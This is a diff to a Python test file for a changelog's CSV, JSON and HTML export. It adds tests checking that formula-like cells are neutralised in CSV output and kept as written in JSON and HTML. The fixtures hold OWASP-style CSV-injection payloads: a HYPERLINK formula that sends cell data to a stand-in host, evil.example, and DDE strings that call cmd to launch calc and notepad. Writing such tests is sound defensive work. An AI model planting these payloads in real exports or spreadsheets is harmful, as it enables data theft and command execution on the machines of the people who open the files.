@@ -85,7 +85,7 @@ def test_empty_catalog_has_the_same_columns_and_types():
     assert len(empty) == 0
     assert list(empty.columns) == list(full.columns)
     assert list(empty.dtypes) == list(full.dtypes)
-    assert changelog.to_csv(empty) == (",".join(changelog.COLUMNS) + "\n").encode()
+    assert changelog.to_csv(empty) == (",".join(f'"{c}"' for c in changelog.COLUMNS) + "\n").encode()
     assert changelog.to_json(empty) == b"[]\n"
 
 
@@ -114,7 +114,60 @@ def test_missing_previous_release_is_null_not_nan():
     assert math.isnan(df["hours_since_previous"].iloc[0])
     row = json.loads(changelog.to_json(df))[0]
     assert row["previous_release_at"] is None and row["hours_since_previous"] is None
-    assert changelog.to_csv(df).decode().splitlines()[1].endswith(",,")
+    assert changelog.to_csv(df).decode().splitlines()[1].endswith(',"",""')
+
+
+# OWASP's CSV-injection examples, as a PIO could type them (each passes intake).
+FORMULAS = {
+    "headline": '=HYPERLINK("http://evil.example/?x="&A1,"Body-cam video")',
+    "summary": "-2+3+cmd|' /C calc'!A0",
+    "location": "+1 (5th St)",
+    "agency": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "body": "\t=1+1 then words",
+}
+FORMULA_NOTE = "=cmd|' /C notepad'!'A1'"
+
+
+def formula_catalog():
+    fix = {"incident_id": "2026-0142", "stage": "corrected", **FORMULAS, "correction_note": FORMULA_NOTE}
+    catalog = catalog_mod.build(
+        {"2026-0142": sample.history((sample.PRELIMINARY, fix), sample.TIMES[:2])},
+        feed_window=50,
+        index_window=100,
+    )[0]
+    # A carriage return cannot pass intake (it is a control character), but an old record
+    # could hold one: the CSV must not rely on intake.
+    catalog["corrections"][0]["changes"].append({"field": "contact", "was": "\r=1+1", "now": "ok"})
+    return catalog
+
+
+def test_csv_opened_with_the_csv_module_has_no_cell_that_starts_like_a_formula():
+    data = changelog.to_csv(changelog.frame(formula_catalog()))
+    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row]
+    assert len(cells) == len(changelog.COLUMNS) * 7
+    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    # Neutralised the OWASP way: a leading single quote, the text otherwise as it is.
+    for text in (*FORMULAS.values(), FORMULA_NOTE, "\r=1+1"):
+        assert "'" + text.strip("\n ") in cells
+
+
+def test_json_and_html_keep_the_exact_text_of_formula_like_cells():
+    from releases import render
+    from releases.settings import Settings
+
+    catalog = formula_catalog()
+    rows = json.loads(changelog.to_json(changelog.frame(catalog)))
+    assert {r["field"]: r["now"] for r in rows} == {**FORMULAS, "contact": "ok"}
+    assert {r["correction_note"] for r in rows} == {FORMULA_NOTE}
+    page = render.corrections_page(catalog, Settings()).decode()
+    assert "<ins>@SUM(1+1)*cmd|&#39; /C calc&#39;!A0</ins>" in page
+    assert "'@SUM" not in page and "&#39;=HYPERLINK" not in page
+
+
+def test_numbers_stay_numbers_in_the_csv():
+    data = changelog.to_csv(changelog.frame(sample.catalog())).decode()
+    assert data.splitlines()[1].startswith('"2026-0142",3,"location",')
+    assert data.splitlines()[1].endswith(",30.25")
 
 
 @pytest.mark.parametrize("write", [changelog.to_csv, changelog.to_json], ids=["csv", "json"])
